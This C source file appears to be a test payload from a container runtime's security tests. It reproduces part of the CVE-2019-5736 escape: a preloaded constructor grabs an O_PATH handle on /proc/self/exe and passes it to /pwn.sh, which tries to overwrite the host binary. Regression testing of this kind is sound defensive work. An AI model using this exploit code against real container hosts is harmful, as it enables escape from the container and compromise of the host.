/* The CVE-2019-5736 payload of security-exe.bats, preloaded into whatever
 * /proc/self/exe runs when the container's entrypoint starts `#!/proc/self/exe`.
 * It keeps a handle on its own exe (O_PATH, inherited across exec) and hands it
 * to /pwn.sh, which tries to write through it once the binary is no longer
 * running.  /record says what happened. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__ ((constructor)) static void
evil (void)
{
  char fdstr[16];
  int rec = open ("/record", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  int fd = open ("/proc/self/exe", O_PATH);

  if (fd < 0)
    {
      dprintf (rec, "no handle: %s\ndone\n", strerror (errno));
      _exit (1);
    }
  dprintf (rec, "handle %d\n", fd);
  snprintf (fdstr, sizeof fdstr, "%d", fd);
  unsetenv ("LD_PRELOAD");
  execl ("/bin/sh", "sh", "/pwn.sh", fdstr, (char *) NULL);
  dprintf (rec, "exec /pwn.sh: %s\ndone\n", strerror (errno));
  _exit (1);
}
